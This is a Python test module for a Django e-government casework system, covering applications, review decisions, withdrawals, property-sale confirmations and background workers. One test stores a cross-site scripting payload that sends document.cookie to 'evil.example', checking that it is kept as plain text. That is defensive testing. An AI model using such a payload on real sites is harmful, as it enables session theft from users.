from __future__ import annotations

import base64
import copy
import datetime
import hashlib
import json
import re
import threading
from typing import Any

import pytest
from django.db import connection

from shanyraq.access_log.models import AccessRecord
from shanyraq.accounts.models import Membership, Role, User
from shanyraq.casework import services
from shanyraq.casework.models import (
    Application,
    CaseEvent,
    Comment,
    InfoRequest,
    Party,
    WorkItem,
)
from shanyraq.casework.tests import services_fixture
from shanyraq.casework.tests.services_fixture import (
    CADASTRAL,
    Clock,
    World,
    at_review,
    filled,
    sale_submitted,
    submitted,
)
from shanyraq.catalog.models import Service
from shanyraq.core.calendar import kazakhstan_calendar
from shanyraq.core.canonical_json import canonicalize
from shanyraq.core.errors import Conflict, NotFound, PermissionDenied, ValidationError
from shanyraq.ledger_django.models import Entry
from shanyraq.notifications.models import Notification
from shanyraq.registries.models import RecordVersion
from shanyraq.registries.services import actor_pseudonym
from shanyraq.testing import factories

# The shared fixtures, bound here so that pytest finds them for this module's tests.
clock = services_fixture.clock
english = services_fixture.english
ledger_log = services_fixture.ledger_log
world = services_fixture.world

pytestmark = pytest.mark.django_db

D = datetime.date


def history(application: Application) -> list[tuple[str, str, str, str]]:
    return list(
        CaseEvent.objects.filter(application=application)
        .order_by("at", "id")
        .values_list("action", "status", "from_step", "to_step")
    )


def decisions() -> list[dict[str, Any]]:
    entries = Entry.objects.filter(kind="casework.decision").order_by("id")
    return [json.loads(bytes(entry.data)) for entry in entries]


def population(iin: str | None) -> RecordVersion:
    return (
        RecordVersion.objects.filter(record__register__code="population", record__key=iin)
        .select_related("ledger_entry", "agency")
        .order_by("-number")
        .first()
    )


def messages(user: User, template: str) -> list[Notification]:
    return list(Notification.objects.filter(recipient=user, template=template))


def snapshot(application: Application) -> tuple[Any, ...]:
    application.refresh_from_db()
    return (
        application.status,
        application.step,
        application.deadline,
        application.assignee_id,
        application.decision_reason,
        CaseEvent.objects.filter(application=application).count(),
        Comment.objects.filter(application=application).count(),
        len(decisions()),
    )


# --- drafts ------------------------------------------------------------------------------


def test_start_prefills_from_the_population_register_and_records_the_read(
    world: World, clock: Clock
) -> None:
    application = services.application_start(
        applicant=world.applicant, service_code="surname-change"
    )
    assert application.status == "draft"
    assert re.fullmatch(r"A2024-[0-9]{7}", application.number)
    assert application.service_version == world.service
    assert application.agency == world.justice
    assert application.prefilled == {
        "last_name": {"value": "Сейітова", "source": "population.last_name"},
        "first_name": {"value": "Айгерім", "source": "population.first_name"},
        "birth_date": {"value": "1990-01-15", "source": "population.birth_date"},
        "address": {
            "value": "almaty, Алматы, Абай даңғылы, 10",
            "source": "population.registered_address",
        },
    }
    read = AccessRecord.objects.get()
    assert (
        read.agency,
        read.actor,
        read.actor_name,
        read.subject_iin,
        read.register,
        read.purpose,
        read.legal_basis,
        read.case_ref,
        read.fields,
    ) == (
        world.justice,
        None,
        "justice casework",
        world.applicant.iin,
        "population",
        f"application {application.number}",
        "Code on Marriage and Family, article 29",
        application.number,
        ["birth_date", "first_name", "last_name", "registered_address"],
    )
    assert history(application) == [("created", "draft", "", "")]


def test_application_numbers_follow_each_other(world: World, clock: Clock) -> None:
    numbers = [
        services.application_start(applicant=world.applicant, service_code="surname-change").number
        for _ in range(3)
    ]
    # Unique and increasing within the year (PostgreSQL's sequences may leave gaps).
    assert all(re.fullmatch(r"A2024-[0-9]{7}", n) for n in numbers)
    assert sorted(numbers) == numbers and len(set(numbers)) == 3


def test_a_person_without_an_iin_cannot_apply(world: World) -> None:
    with pytest.raises(PermissionDenied) as info:
        services.application_start(applicant=world.reviewer, service_code="surname-change")
    assert info.value.code == "iin_required"
    assert Application.objects.count() == 0


def test_an_unknown_or_offline_service_cannot_be_applied_for(world: World) -> None:
    with pytest.raises(NotFound) as info:
        services.application_start(applicant=world.applicant, service_code="no-such-service")
    assert info.value.code == "service_not_found"
    factories.published_service(agency=world.justice, code="paper-only")
    with pytest.raises(ValidationError) as info2:
        services.application_start(applicant=world.applicant, service_code="paper-only")
    assert info2.value.code == "not_online"
    assert Application.objects.count() == 0
    assert AccessRecord.objects.count() == 0


def test_saving_a_step_keeps_its_answers(world: World) -> None:
    draft = services.application_start(applicant=world.applicant, service_code="surname-change")
    saved = services.application_save(
        application=draft,
        applicant=world.applicant,
        values={"new_last_name": "Омарова", "reason": "marriage", "children": "2"},
        step=1,
    )
    saved.refresh_from_db()
    assert saved.answers == {"new_last_name": "Омарова", "reason": "marriage", "children": 2}
    assert saved.form_step == 2


def test_a_step_with_problems_keeps_nothing(world: World) -> None:
    draft = services.application_start(applicant=world.applicant, service_code="surname-change")
    services.application_save(
        application=draft,
        applicant=world.applicant,
        values={"new_last_name": "Омарова", "reason": "marriage"},
        step=1,
    )
    with pytest.raises(ValidationError) as info:
        services.application_save(
            application=draft,
            applicant=world.applicant,
            values={"reason": "adoption", "children": "two", "spouse_iin": "123"},
            step=1,
        )
    assert info.value.code == "invalid_answers"
    assert info.value.field == "new_last_name"
    assert info.value.details["problems"] == [
        {"field": "new_last_name", "message": "This field is required."},
        {"field": "reason", "message": "Choose one of the options."},
        {"field": "spouse_iin", "message": "The value does not have the expected form."},
        {"field": "children", "message": "Enter a whole number."},
    ]
    draft.refresh_from_db()
    assert draft.answers == {"new_last_name": "Омарова", "reason": "marriage"}
    assert draft.form_step == 2


def test_forged_fields_and_changes_to_prefilled_fields_are_refused(world: World) -> None:
    draft = services.application_start(applicant=world.applicant, service_code="surname-change")
    with pytest.raises(ValidationError) as info:
        services.application_save(
            application=draft,
            applicant=world.applicant,
            values={"last_name": "Иванова", "status": "approved", "address": "Астана"},
            step=0,
        )
    from_register = "This value comes from a state register and cannot be changed here."
    assert info.value.details["problems"] == [
        {"field": "last_name", "message": from_register},
        {"field": "address", "message": from_register},
        {"field": "status", "message": "Unknown fields are not allowed."},
    ]
    draft.refresh_from_db()
    assert (draft.answers, draft.status) == ({}, "draft")
    assert draft.prefilled["last_name"]["value"] == "Сейітова"
    assert services.answers_of(draft)["last_name"] == "Сейітова"


def test_huge_values_are_refused_and_script_text_is_kept_as_text(world: World) -> None:
    draft = services.application_start(applicant=world.applicant, service_code="surname-change")
    with pytest.raises(ValidationError) as info:
        services.application_save(
            application=draft,
            applicant=world.applicant,
            values={"confirm": "on", "comment": "x" * 100_000},
            step=2,
        )
    assert info.value.details["problems"] == [
        {"field": "comment", "message": "At most 2000 characters."}
    ]
    script = "<script>document.location='https://evil.example/?'+document.cookie</script>"
    services.application_save(
        application=draft,
        applicant=world.applicant,
        values={"confirm": "on", "comment": script},
        step=2,
    )
    draft.refresh_from_db()
    assert draft.answers == {"confirm": True, "comment": script}


def test_answers_too_long_altogether_are_refused(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(services, "MAX_ANSWERS_BYTES", 60)
    draft = services.application_start(applicant=world.applicant, service_code="surname-change")
    with pytest.raises(ValidationError) as info:
        services.application_save(
            application=draft,
            applicant=world.applicant,
            values={"confirm": "on", "comment": "c" * 60},
            step=2,
        )
    assert info.value.details["problems"] == [
        {"field": "$", "message": "The answers are too long altogether."}
    ]
    draft.refresh_from_db()
    assert draft.answers == {}


def test_saving_a_step_again_replaces_its_answers(world: World) -> None:
    draft = services.application_start(applicant=world.applicant, service_code="surname-change")
    services.application_save(
        application=draft,
        applicant=world.applicant,
        values={"new_last_name": "Омарова", "reason": "marriage", "children": "2"},
        step=1,
    )
    services.application_save(
        application=draft, applicant=world.applicant, values={"confirm": "on"}, step=2
    )
    services.application_save(
        application=draft,
        applicant=world.applicant,
        values={"new_last_name": "Омарова", "reason": "divorce", "children": ""},
        step=1,
    )
    draft.refresh_from_db()
    assert draft.answers == {"new_last_name": "Омарова", "reason": "divorce", "confirm": True}


def test_a_step_the_form_does_not_have_is_refused(world: World) -> None:
    draft = services.application_start(applicant=world.applicant, service_code="surname-change")
    with pytest.raises(ValidationError) as info:
        services.application_save(application=draft, applicant=world.applicant, values={}, step=3)
    assert (info.value.code, info.value.field) == ("no_such_step", "step")
    draft.refresh_from_db()
    assert draft.form_step == 0


def test_only_the_applicant_saves_their_draft(world: World) -> None:
    draft = services.application_start(applicant=world.applicant, service_code="surname-change")
    with pytest.raises(NotFound):
        services.application_save(
            application=draft,
            applicant=world.stranger,
            values={"new_last_name": "Омарова", "reason": "marriage"},
            step=1,
        )
    draft.refresh_from_db()
    assert draft.answers == {}


def test_a_submitted_application_cannot_be_saved(world: World, clock: Clock) -> None:
    application = submitted(world)
    with pytest.raises(Conflict) as info:
        services.application_save(
            application=application, applicant=world.applicant, values={"confirm": "on"}, step=2
        )
    assert info.value.code == "not_a_draft"


# --- submission --------------------------------------------------------------------------


def test_submission_checks_every_answer(world: World) -> None:
    draft = services.application_start(applicant=world.applicant, service_code="surname-change")
    services.application_save(
        application=draft,
        applicant=world.applicant,
        values={"new_last_name": "Омарова", "reason": "marriage"},
        step=1,
    )
    with pytest.raises(ValidationError) as info:
        services.application_submit(application=draft, applicant=world.applicant)
    assert info.value.details["problems"] == [
        {"field": "confirm", "message": "This field is required."}
    ]
    draft.refresh_from_db()
    assert (draft.status, draft.submitted_at) == ("draft", None)
    assert WorkItem.objects.count() == 0


def test_submitting_twice_gives_the_same_application(world: World, clock: Clock) -> None:
    draft = filled(world)
    first = services.application_submit(application=draft, applicant=world.applicant)
    again = services.application_submit(application=draft, applicant=world.applicant)
    assert again.pk == first.pk
    again.refresh_from_db()
    assert (again.status, again.step, again.submitted_at) == ("active", "registration", clock.now)
    assert history(again) == [
        ("created", "draft", "", ""),
        ("submit", "active", "", "registration"),
    ]
    assert CaseEvent.objects.get(application=again, action="submit").actor == world.applicant
    assert WorkItem.objects.filter(application=again).count() == 1
    assert len(messages(world.applicant, "application.submitted")) == 1


def test_an_idempotency_key_belongs_to_one_application(world: World, clock: Clock) -> None:
    first = filled(world)
    services.application_submit(application=first, applicant=world.applicant, idempotency_key="k1")
    repeated = services.application_submit(
        application=first, applicant=world.applicant, idempotency_key="k1"
    )
    assert repeated.pk == first.pk
    second = filled(world)
    with pytest.raises(Conflict) as info:
        services.application_submit(
            application=second, applicant=world.applicant, idempotency_key="k1"
        )
    assert info.value.code == "idempotency_key_reused"
    second.refresh_from_db()
    assert (second.status, second.idempotency_key) == ("draft", "")
    services.application_submit(application=second, applicant=world.applicant, idempotency_key="k2")
    second.refresh_from_db()
    assert (second.status, second.idempotency_key) == ("active", "k2")


def test_only_the_applicant_submits(world: World) -> None:
    draft = filled(world)
    with pytest.raises(NotFound):
        services.application_submit(application=draft, applicant=world.stranger)
    draft.refresh_from_db()
    assert draft.status == "draft"


# --- automatic decisions -----------------------------------------------------------------


def _outcomes(application: Application) -> list[tuple[str, str, dict[str, Any]]]:
    trace = application.decision_trace or {}
    return [(c["id"], c["outcome"], c["facts_used"]) for c in trace["conditions"]]


def test_the_rules_approve_and_the_population_register_changes(world: World, clock: Clock) -> None:
    application = submitted(world)
    assert services.work_once() == 1
    application.refresh_from_db()
    iin = world.applicant.iin
    assert (application.status, application.step) == ("approved", "approved")
    assert application.decided_at == clock.now
    assert application.decision_trace is not None
    assert application.decision_trace["outcome"] == "approve"
    assert _outcomes(application) == [
        ("adult", "true", {"person.birth_date": "1990-01-15", "today": "2024-03-15"}),
        ("confirmed", "true", {"answers.confirm": True}),
        (
            "name_changes",
            "true",
            {"answers.new_last_name": "Сейітова-Омарова", "person.last_name": "Сейітова"},
        ),
        ("spouse_on_record", "true", {"spouse.spouse_iin": iin, "applicant.iin": iin}),
    ]
    assert history(application)[1:] == [
        ("submit", "active", "", "registration"),
        ("complete", "active", "registration", "eligibility"),
        ("approve", "approved", "eligibility", "approved"),
    ]
    # The register changed through its service: a new version with its own ledger entry.
    version = population(iin)
    assert (version.number, version.op, version.data["last_name"]) == (
        2,
        "update",
        "Сейітова-Омарова",
    )
    assert version.data["first_name"] == "Айгерім"
    assert (version.agency, version.basis) == (world.justice, f"application {application.number}")
    assert version.ledger_entry.kind == "registry.record"
    assert json.loads(bytes(version.ledger_entry.data))["op"] == "update"
    # The spouse's record was read for the rules, only the declared fields, and recorded.
    spouse_read = AccessRecord.objects.get(subject_iin=world.spouse.iin)
    assert spouse_read.fields == ["iin", "marital_status", "spouse_iin"]
    assert spouse_read.purpose == f"application {application.number}"
    assert WorkItem.objects.get(application=application).done_at == clock.now
    assert len(messages(world.applicant, "application.decided.approved")) == 1


def test_a_decision_writes_one_ledger_entry_without_personal_data(
    world: World, clock: Clock
) -> None:
    application = submitted(world)
    services.work_once()
    application.refresh_from_db()
    [entry] = decisions()
    assert entry == {
        "v": 1,
        "type": "casework.decision",
        "application": str(application.public_id),
        "service": "surname-change",
        "service_version": 1,
        "decision": "approved",
        "commitment": entry["commitment"],
        "actor": "system",
        "agency": "justice",
        "time": "2024-03-15T05:00:00Z",
    }
    raw = bytes(Entry.objects.get(kind="casework.decision").data).decode()
    for personal in (
        world.applicant.iin,
        world.spouse.iin,
        "Сейітова",
        "Айгерім",
        application.number,
        "1990-01-15",
    ):
        assert personal not in raw
    # The commitment opens with the salt kept with the application, and with nothing else.
    assert application.decision_trace is not None
    salt = application.decision_trace["salt"]
    content = {
        "number": application.number,
        "decision": "approved",
        "reason": "",
        "answers": services.answers_of(application),
    }
    digest = hashlib.sha256(bytes.fromhex(salt) + canonicalize(content)).digest()
    assert entry["commitment"] == base64.b64encode(digest).decode()


def test_the_rules_reject_without_touching_the_register(world: World, clock: Clock) -> None:
    application = submitted(world, new_last_name="Сейітова")
    services.work_once()
    application.refresh_from_db()
    assert (application.status, application.step) == ("rejected", "rejected")
    assert application.decision_trace is not None
    assert application.decision_trace["outcome"] == "reject"
    assert [(c, o) for c, o, _facts in _outcomes(application)] == [
        ("adult", "true"),
        ("confirmed", "true"),
        ("name_changes", "false"),
        ("spouse_on_record", "true"),
    ]
    assert _outcomes(application)[2][2] == {
        "answers.new_last_name": "Сейітова",
        "person.last_name": "Сейітова",
    }
    assert population(world.applicant.iin).number == 1
    assert [entry["decision"] for entry in decisions()] == ["rejected"]
    [message] = messages(world.applicant, "application.decided.rejected")
    assert "The new surname differs from the current one" in message.body.get("en")
    assert "The new surname differs from the current one (kk)" in message.body.get("kk")


def test_undecided_goes_to_the_reviewer_with_a_deadline_in_working_days(
    world: World, clock: Clock
) -> None:
    application = at_review(world)
    # Entered Friday 15 March 2024; 5 working days across Nauryz (21-25 March).
    assert (application.step_entered_on, application.deadline) == (D(2024, 3, 15), D(2024, 3, 27))
    assert application.decision_trace is not None
    assert application.decision_trace["outcome"] == "undecided"
    spouse = application.decision_trace["conditions"][3]
    assert (spouse["id"], spouse["outcome"], spouse["missing"]) == (
        "spouse_on_record",
        "unknown",
        ["spouse.spouse_iin"],
    )
    assert history(application)[-1] == ("undecided", "active", "eligibility", "review")
    assert CaseEvent.objects.filter(application=application).last().deadline == D(2024, 3, 27)
    assert decisions() == []
    assert population(world.applicant.iin).number == 1
    assert application.decided_at is None


def test_an_approval_the_register_refuses_goes_to_a_person(world: World, clock: Clock) -> None:
    # The form takes 80 letters, the population register only 60.
    application = submitted(world, new_last_name="Ә" * 70)
    assert services.work_once() == 1
    application.refresh_from_db()
    assert (application.status, application.step) == ("active", "review")
    assert application.decision_trace is not None
    assert application.decision_trace["outcome"] == "undecided"
    assert application.decision_trace["approval_failed"]["code"] == "schema_violation"
    assert population(world.applicant.iin).number == 1
    assert decisions() == []
    assert WorkItem.objects.get(application=application).done_at == clock.now


# --- officials -----------------------------------------------------------------------------


@pytest.mark.parametrize("note", ["", "   "])
def test_a_decision_needs_a_reason(world: World, clock: Clock, note: str) -> None:
    application = at_review(world)
    before = snapshot(application)
    for action in ("approve", "reject", "request_info"):
        with pytest.raises(ValidationError) as info:
            services.case_act(
                application=application, official=world.reviewer, action=action, note=note
            )
        assert (info.value.code, info.value.field) == ("reason_required", "note")
    assert snapshot(application) == before


def test_the_reviewer_approves_with_a_reason(world: World, clock: Clock) -> None:
    application = at_review(world)
    clock.on(D(2024, 3, 19))
    services.case_act(
        application=application,
        official=world.reviewer,
        action="approve",
        note="Marriage certificate checked",
    )
    application.refresh_from_db()
    assert (application.status, application.decision_reason) == (
        "approved",
        "Marriage certificate checked",
    )
    assert application.assignee is None
    event = CaseEvent.objects.filter(application=application).last()
    assert (event.action, event.actor, event.actor_kind, event.note) == (
        "approve",
        world.reviewer,
        "official",
        "Marriage certificate checked",
    )
    assert population(world.applicant.iin).data["last_name"] == "Сейітова-Омарова"
    [entry] = decisions()
    assert entry["actor"] == actor_pseudonym(world.reviewer)
    assert entry["actor"] != "system"
    assert world.reviewer.username not in json.dumps(entry)


def test_the_reviewer_rejects_and_the_applicant_reads_the_reason(
    world: World, clock: Clock
) -> None:
    application = at_review(world)
    services.case_act(
        application=application,
        official=world.reviewer,
        action="reject",
        note="No marriage is registered",
    )
    application.refresh_from_db()
    assert application.status == "rejected"
    [message] = messages(world.applicant, "application.decided.rejected")
    assert "No marriage is registered" in message.body.get("en")
    assert population(world.applicant.iin).number == 1
    assert [entry["decision"] for entry in decisions()] == ["rejected"]


def test_an_approval_is_refused_when_the_registers_no_longer_meet_the_rules(
    world: World, clock: Clock
) -> None:
    waiting = at_review(world)
    # Meanwhile a second application makes the same change, and the rules approve it.
    services.application_submit(application=filled(world), applicant=world.applicant)
    services.work_once()
    assert population(world.applicant.iin).data["last_name"] == "Сейітова-Омарова"
    before = snapshot(waiting)
    with pytest.raises(Conflict) as info:
        services.case_act(
            application=waiting, official=world.reviewer, action="approve", note="Checked"
        )
    assert info.value.code == "rules_no_longer_met"
    assert info.value.details == {"conditions": ["name_changes"]}
    assert snapshot(waiting) == before
    assert population(world.applicant.iin).number == 2
    services.case_act(
        application=waiting, official=world.reviewer, action="reject", note="Already changed"
    )
    waiting.refresh_from_db()
    assert waiting.status == "rejected"


def test_a_request_for_information_pauses_and_the_answer_moves_the_deadline(
    world: World, clock: Clock
) -> None:
    application = at_review(world)
    clock.on(D(2024, 3, 18))
    services.case_act(
        application=application,
        official=world.reviewer,
        action="request_info",
        note="Attach the marriage certificate",
    )
    application.refresh_from_db()
    assert (application.status, application.paused_since, application.assignee) == (
        "paused",
        D(2024, 3, 18),
        world.reviewer,
    )
    question = InfoRequest.objects.get(application=application)
    assert (question.question, question.asked_by, question.answered_at) == (
        "Attach the marriage certificate",
        world.reviewer,
        None,
    )
    [message] = messages(world.applicant, "application.info_requested")
    answer_by = kazakhstan_calendar().add_working_days(D(2024, 3, 18), services.ANSWER_DAYS)
    assert answer_by == D(2024, 4, 4)
    assert "Attach the marriage certificate" in message.body.get("en")
    assert "04.04.2024" in message.body.get("en")
    with pytest.raises(Conflict) as info:
        services.case_act(
            application=application, official=world.reviewer, action="approve", note="ok"
        )
    assert info.value.code == "transition_paused"
    # Answered Wednesday 27 March: 4 working days waited (19, 20, 26, 27).
    clock.on(D(2024, 3, 27))
    services.application_answer_info(
        application=application, applicant=world.applicant, answer="Certificate AB123456"
    )
    application.refresh_from_db()
    assert (application.status, application.deadline, application.paused_days) == (
        "active",
        D(2024, 4, 2),
        4,
    )
    question.refresh_from_db()
    assert (question.answer, question.answered_at) == ("Certificate AB123456", clock.now)
    assert history(application)[-2:] == [
        ("request_info", "paused", "review", "review"),
        ("provide_info", "active", "review", "review"),
    ]
    with pytest.raises(Conflict) as info2:
        services.application_answer_info(
            application=application, applicant=world.applicant, answer="again"
        )
    assert info2.value.code == "no_question"


def test_only_the_applicant_answers_and_only_with_text(world: World, clock: Clock) -> None:
    application = at_review(world)
    services.case_act(
        application=application, official=world.reviewer, action="request_info", note="Why?"
    )
    with pytest.raises(NotFound):
        services.application_answer_info(
            application=application, applicant=world.stranger, answer="Because"
        )
    with pytest.raises(ValidationError) as info:
        services.application_answer_info(
            application=application, applicant=world.applicant, answer="nul\x00byte"
        )
    assert info.value.code == "answer_length"
    application.refresh_from_db()
    assert application.status == "paused"
    assert InfoRequest.objects.get(application=application).answered_at is None


def test_return_sends_the_case_back_through_the_automatic_steps(world: World, clock: Clock) -> None:
    application = at_review(world)
    services.case_take(application=application, official=world.reviewer)
    clock.on(D(2024, 3, 19))
    services.case_act(application=application, official=world.reviewer, action="return")
    application.refresh_from_db()
    assert (application.step, application.assignee, application.deadline) == (
        "registration",
        None,
        None,
    )
    assert WorkItem.objects.filter(application=application, done_at__isnull=True).count() == 1
    assert services.work_once() == 1
    application.refresh_from_db()
    # Re-entering the review restarts its clock: 19 March + 5 working days.
    assert (application.step, application.step_entered_on, application.deadline) == (
        "review",
        D(2024, 3, 19),
        D(2024, 3, 29),
    )


@pytest.mark.parametrize(
    ("who", "error", "code"),
    [
        ("other_reviewer", NotFound, "application_not_found"),
        ("other_head", NotFound, "application_not_found"),
        ("admin", NotFound, "application_not_found"),
        ("applicant", NotFound, "application_not_found"),
        ("stranger", NotFound, "application_not_found"),
        ("clerk", PermissionDenied, "not_your_step"),
    ],
)
def test_those_who_do_not_handle_the_step_change_nothing(
    world: World, clock: Clock, who: str, error: type[Exception], code: str
) -> None:
    application = at_review(world)
    person = getattr(world, who)
    before = snapshot(application)
    with pytest.raises(error) as info:
        services.case_act(
            application=application, official=person, action="approve", note="Looks fine"
        )
    assert getattr(info.value, "code", None) == code
    with pytest.raises(error):
        services.case_take(application=application, official=person)
    assert snapshot(application) == before
    assert population(world.applicant.iin).number == 1


def test_a_head_of_unit_may_decide_any_task_step(world: World, clock: Clock) -> None:
    application = at_review(world)
    services.case_act(
        application=application, official=world.head, action="reject", note="Duplicate"
    )
    application.refresh_from_db()
    assert application.status == "rejected"


def test_an_official_cannot_handle_their_own_application(world: World, clock: Clock) -> None:
    Membership.objects.create(user=world.applicant, agency=world.justice, role=Role.REVIEWER)
    official = User.objects.get(pk=world.applicant.pk)
    application = at_review(world, official)
    before = snapshot(application)
    with pytest.raises(PermissionDenied) as info:
        services.case_act(application=application, official=official, action="approve", note="Mine")
    assert info.value.code == "own_application"
    with pytest.raises(ValidationError):
        services.case_assign(application=application, head=world.head, assignee=official)
    assert snapshot(application) == before


def test_an_action_the_step_does_not_have_is_a_conflict(world: World, clock: Clock) -> None:
    application = at_review(world)
    before = snapshot(application)
    with pytest.raises(Conflict) as info:
        services.case_act(application=application, official=world.reviewer, action="sign")
    assert info.value.code == "transition_unknown_action"
    assert snapshot(application) == before


def test_taking_and_assigning_a_case(world: World, clock: Clock) -> None:
    application = at_review(world)
    colleague = factories.member(world.justice, Role.REVIEWER, username="colleague")
    services.case_take(application=application, official=world.reviewer)
    services.case_take(application=application, official=world.reviewer)
    application.refresh_from_db()
    assert application.assignee == world.reviewer
    assert [a for a, *_rest in history(application)].count("taken") == 1
    with pytest.raises(Conflict) as info:
        services.case_take(application=application, official=colleague)
    assert info.value.code == "taken"
    with pytest.raises(PermissionDenied) as info2:
        services.case_assign(application=application, head=world.reviewer, assignee=colleague)
    assert info2.value.code == "head_only"
    for unfit in (world.clerk, world.other_reviewer):
        with pytest.raises(ValidationError) as info3:
            services.case_assign(application=application, head=world.head, assignee=unfit)
        assert (info3.value.code, info3.value.field) == ("assignee_role", "assignee")
    application.refresh_from_db()
    assert application.assignee == world.reviewer
    services.case_assign(application=application, head=world.head, assignee=colleague)
    application.refresh_from_db()
    assert application.assignee == colleague
    assigned = CaseEvent.objects.get(application=application, action="assigned")
    assert (assigned.actor, assigned.note) == (world.head, "colleague")


def test_officials_of_the_agency_comment_on_a_case(world: World, clock: Clock) -> None:
    application = at_review(world)
    comment = services.case_comment(
        application=application, official=world.clerk, text="  Called the registry office  "
    )
    assert (comment.text, comment.author) == ("Called the registry office", world.clerk)
    with pytest.raises(NotFound):
        services.case_comment(application=application, official=world.other_head, text="Hi")
    with pytest.raises(ValidationError) as info:
        services.case_comment(application=application, official=world.clerk, text=" ")
    assert info.value.code == "comment_length"
    with pytest.raises(ValidationError):
        services.case_comment(application=application, official=world.clerk, text="x" * 2001)
    assert Comment.objects.filter(application=application).count() == 1


def test_officials_never_touch_a_draft(world: World) -> None:
    draft = filled(world)
    with pytest.raises(NotFound):
        services.case_comment(application=draft, official=world.head, text="Hello")
    with pytest.raises(NotFound):
        services.case_take(application=draft, official=world.head)
    with pytest.raises(NotFound):
        services.case_act(application=draft, official=world.head, action="approve", note="x")
    draft.refresh_from_db()
    assert (draft.status, draft.assignee) == ("draft", None)
    assert Comment.objects.count() == 0


# --- withdrawal ----------------------------------------------------------------------------


def test_withdrawing_closes_the_case_without_a_decision(world: World, clock: Clock) -> None:
    application = at_review(world)
    services.application_withdraw(application=application, applicant=world.applicant)
    application.refresh_from_db()
    assert (application.status, application.step, application.decided_at) == (
        "withdrawn",
        "withdrawn",
        clock.now,
    )
    assert history(application)[-1] == ("withdraw", "withdrawn", "review", "withdrawn")
    assert CaseEvent.objects.filter(application=application).last().actor == world.applicant
    assert decisions() == []
    with pytest.raises(Conflict) as info:
        services.application_withdraw(application=application, applicant=world.applicant)
    assert info.value.code == "already_decided"
    with pytest.raises(PermissionDenied):
        services.case_act(
            application=application, official=world.reviewer, action="approve", note="Late"
        )


def test_withdrawing_while_information_is_asked_for(world: World, clock: Clock) -> None:
    application = at_review(world)
    services.case_act(
        application=application, official=world.reviewer, action="request_info", note="Why?"
    )
    services.application_withdraw(application=application, applicant=world.applicant)
    application.refresh_from_db()
    assert application.status == "withdrawn"


def test_withdrawing_a_draft(world: World) -> None:
    draft = filled(world)
    services.application_withdraw(application=draft, applicant=world.applicant)
    draft.refresh_from_db()
    assert draft.status == "withdrawn"
    assert history(draft)[-1] == ("withdraw", "withdrawn", "", "")


def test_only_the_applicant_withdraws(world: World, clock: Clock) -> None:
    application = at_review(world)
    for person in (world.stranger, world.reviewer):
        with pytest.raises(NotFound):
            services.application_withdraw(application=application, applicant=person)
    application.refresh_from_db()
    assert application.status == "active"


# --- parties ---------------------------------------------------------------------------------


def test_a_sale_waits_for_the_buyer_to_confirm(world: World, clock: Clock) -> None:
    application = sale_submitted(world)
    application.refresh_from_db()
    assert (application.status, application.step) == ("awaiting_parties", "")
    assert application.answers["price"] == 25_000_000
    party = Party.objects.get(application=application)
    assert (party.role, party.iin, party.confirmed_at) == ("buyer", world.buyer.iin, None)
    [request] = messages(world.buyer, "party.confirmation_requested")
    assert request.link == f"/account/applications/{application.number}/"
    assert "03.04.2024" in request.body.get("en")  # 10 working days after 15 March
    assert messages(world.applicant, "application.submitted") == []
    assert WorkItem.objects.count() == 0
    assert services.work_once() == 0


def test_nobody_but_the_buyer_answers_for_the_buyer(world: World, clock: Clock) -> None:
    application = sale_submitted(world)
    for person in (world.stranger, world.applicant, world.reviewer):
        with pytest.raises(NotFound):
            services.party_respond(application=application, person=person, accept=True)
    application.refresh_from_db()
    assert application.status == "awaiting_parties"
    assert Party.objects.get(application=application).confirmed_at is None


def test_the_buyers_confirmation_starts_the_case(world: World, clock: Clock) -> None:
    application = sale_submitted(world)
    clock.later(hours=2)
    services.party_respond(application=application, person=world.buyer, accept=True)
    application.refresh_from_db()
    assert (application.status, application.step) == ("active", "eligibility")
    assert Party.objects.get(application=application).confirmed_at == clock.now
    assert history(application) == [
        ("created", "draft", "", ""),
        ("submit", "awaiting_parties", "", ""),
        ("party_confirmed", "awaiting_parties", "", ""),
        ("start", "active", "", "eligibility"),
    ]
    assert len(messages(world.applicant, "application.submitted")) == 1
    assert services.work_once() == 1
    application.refresh_from_db()
    assert (application.step, application.deadline) == ("registration", D(2024, 3, 27))
    assert [(c, o) for c, o, _facts in _outcomes(application)] == [
        ("seller_owns", "true"),
        ("not_arrested", "true"),
    ]
    read = AccessRecord.objects.get(register="real_estate")
    assert (read.subject_iin, read.fields) == (world.applicant.iin, ["cadastral_number", "owners"])
    with pytest.raises(Conflict) as info:
        services.party_respond(application=application, person=world.buyer, accept=False)
    assert info.value.code == "not_awaiting"


def test_the_buyer_declining_withdraws_the_sale(world: World, clock: Clock) -> None:
    application = sale_submitted(world)
    services.party_respond(application=application, person=world.buyer, accept=False)
    application.refresh_from_db()
    assert application.status == "withdrawn"
    assert Party.objects.get(application=application).declined_at == clock.now
    [message] = messages(world.applicant, "message")
    assert message.subject.get("en") == f"Application {application.number} was declined"
    assert WorkItem.objects.count() == 0
    assert decisions() == []


def test_the_buyer_cannot_be_the_seller(world: World, clock: Clock) -> None:
    with pytest.raises(ValidationError) as info:
        sale_submitted(world, buyer_iin=world.applicant.iin)
    assert (info.value.code, info.value.field) == ("party_is_applicant", "buyer_iin")
    assert Application.objects.get().status == "draft"
    assert Party.objects.count() == 0


def test_selling_someone_elses_property_is_rejected(world: World, clock: Clock) -> None:
    thief = world.stranger
    application = services.application_start(applicant=thief, service_code="property-sale")
    services.application_save(
        application=application,
        applicant=thief,
        values={"cadastral_number": "01:234:567:890", "buyer_iin": world.buyer.iin, "price": 1},
        step=None,
    )
    services.application_submit(application=application, applicant=thief)
    services.party_respond(application=application, person=world.buyer, accept=True)
    services.work_once()
    application.refresh_from_db()
    assert application.status == "rejected"
    assert _outcomes(application)[0][:2] == ("seller_owns", "false")


# --- the worker ------------------------------------------------------------------------------


def test_an_item_held_by_a_killed_worker_is_taken_again_after_its_lease(
    world: World, clock: Clock
) -> None:
    application = submitted(world)
    assert len(services._claim(10, clock.now)) == 1  # a worker claims it, then dies
    assert services.work_once() == 0
    clock.later(seconds=services.LEASE.total_seconds() - 1)
    assert services.work_once() == 0
    application.refresh_from_db()
    assert application.step == "registration"
    clock.later(seconds=1)
    assert services.work_once() == 1
    application.refresh_from_db()
    assert application.status == "approved"
    item = WorkItem.objects.get(application=application)
    assert (item.attempts, item.done_at) == (2, clock.now)


def test_a_worker_killed_mid_batch_has_spent_an_attempt_of_one_item_only(
    world: World, clock: Clock, monkeypatch: pytest.MonkeyPatch
) -> None:
    for person in (world.applicant, world.spouse, world.buyer):
        submitted(world, person)

